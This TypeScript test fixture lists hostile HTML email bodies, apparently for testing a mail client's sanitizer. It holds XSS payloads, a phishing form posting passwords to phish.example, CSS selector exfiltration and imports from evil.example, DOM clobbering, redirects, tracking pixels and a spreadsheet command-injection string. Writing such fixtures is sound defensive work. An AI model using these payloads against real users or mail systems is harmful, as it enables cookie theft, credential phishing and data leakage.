/** Bodies that try to do something to whoever shows them. All addresses are reserved names. */
export const hostileBodies: readonly { readonly subject: string; readonly html: () => string }[] = [
  {
    subject: "<script>alert(1)</script>",
    html: () => "<p>Hello</p><script>alert(document.cookie)</script><p>after script</p>",
  },
  {
    subject: 'Re: your "invoice"><svg onload=alert(1)>',
    html: () => '<svg onload=alert(1)><p>vector</p></svg><svg><script href="data:,alert(1)"/></svg>',
  },
  {
    subject: "Click here",
    html: () =>
      '<p><a href="javascript:alert(1)">Open</a> <a href="JaVaScRiPt&colon;alert(1)">Open 2</a> <a href="data:text/html,<script>alert(1)</script>">Open 3</a></p>',
  },
  {
    subject: "Sign in again",
    html: () =>
      '<form action="https://phish.example/collect" method="post"><input name="email"><input name="password" type="password"><button>Sign in</button></form>',
  },
  {
    subject: "Preview",
    html: () =>
      '<iframe src="https://evil.example/" srcdoc="<script>parent.alert(1)</script>"></iframe><object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
  },
  {
    subject: "Base",
    html: () => '<base href="https://evil.example/"><p>All <a href="/settings">links</a> are mine now.</p>',
  },
  {
    subject: "id=getElementById",
    html: () =>
      '<form id="__NEXT_DATA__"><input name="getElementById"><img name="cookie"><a id="location" name="href" href="clobber:1">clobber</a></form><p>DOM clobbering</p>',
  },
  {
    subject: "Styles",
    html: () =>
      "<style>@import url('https://evil.example/steal.css'); body{display:none!important} input[value^=a]{background:url(https://evil.example/a)}</style><p style=\"position:fixed;inset:0;z-index:99999;background:red\">cover</p>",
  },
  { subject: "W".repeat(300), html: () => `<p>${"unbroken".repeat(1_500)}</p>` },
  {
    subject: "100 KB",
    html: () => `<p>${"All work and no play makes a dull paragraph. ".repeat(2_300)}</p>`,
  },
  {
    subject: "Pictures",
    html: () =>
      '<img src=x onerror=alert(1)><img src="http://tracker.example/p.gif?u=1" width=1 height=1><video poster="http://tracker.example/v.gif" onloadstart=alert(1)></video><table background="http://tracker.example/t.gif"><tr><td>pixel</td></tr></table>',
  },
  {
    subject: "Refresh",
    html: () =>
      '<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel=stylesheet href="https://evil.example/a.css"><p>moved</p>',
  },
  {
    subject: "Math",
    html: () =>
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>mutation</p>',
  },
  { subject: "=1+1", html: () => "<p>=cmd|' /C calc'!A0</p><p>@SUM(1+9)*cmd</p><p>-2+3</p>" },
  {
    subject: "\u202etxt.exe",
    html: () =>
      "<p>\u202eThis sentence is reversed\u202c and this is not. \u2067isolated\u2069 \u200b\u200b\u200b zero width.</p>",
  },
  { subject: "Deep", html: () => `${"<div>".repeat(800)}<p>bottom</p>${"</div>".repeat(800)}` },
  { subject: "Z̸̡̢̛̮͎͚̱̩̤̈̀͊͝a̶̰͋l̴̞͊g̷̺̎o̸̺͗", html: () => `<p>${"Z̸̡̢̛̮͎͚̱̩̤̈̀͊͝a̶̰͋l̴̞͊g̷̺̎o̸̺͗ ".repeat(40)}</p>` },
  {
    subject: "Unclosed",
    html: () =>
      '<table><tr><td><b><i><a href="https://evil.example" target=_top onclick="top.location=\'https://evil.example\'">never closed <p>still inside <li>list',
  },
  {
    subject: "Events",
    html: () =>
      "<details open ontoggle=alert(1)><summary>more</summary></details><input autofocus onfocus=alert(1)><marquee onstart=alert(1)>run</marquee><p contenteditable onbeforeinput=alert(1)>edit</p>",
  },
  {
    subject: "Template",
    html: () =>
      '<template shadowrootmode="open"><script>alert(1)</script></template><p>{{7*7}} \u0024{7*7} <%= 7*7 %> %s %n \\u0000</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
];
